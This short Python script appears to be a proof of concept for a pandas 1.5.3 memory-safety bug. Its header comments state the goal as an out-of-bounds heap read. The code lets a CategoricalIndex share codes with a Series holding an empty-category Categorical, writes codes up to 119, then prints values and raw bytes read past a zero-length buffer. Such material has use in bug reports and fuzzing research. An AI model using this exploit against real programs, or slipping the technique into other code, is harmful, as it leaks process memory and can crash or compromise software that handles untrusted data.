# source: pandas 1.5.3 CategoricalIndex.__new__ (copy=False default) on a Series holding the Categorical (extract_array keeps it) + recode_for_categories empty shortcut; Series.to_numpy -> take_nd unchecked
# family: shared codes / separate categories metadata (writer reached through a Series wrapper and CategoricalDtype= keyword)
# goal: out-of-bounds heap read
import numpy as np
import pandas as pd

n = 16
s0 = pd.Series(pd.Categorical([np.nan] * n, categories=pd.Index([], dtype="float64")))
ci = pd.CategoricalIndex(s0, dtype=pd.CategoricalDtype([float(i) for i in range(120)]))
w = ci.array
for i in range(n):
    w[i] = float(119 - i)
print("codes of the Series' own Categorical:", list(s0.cat.codes))
print("values read past a 0-length float64 categories buffer:")
print(s0.to_numpy())
print("as bytes:", s0.to_numpy().tobytes())
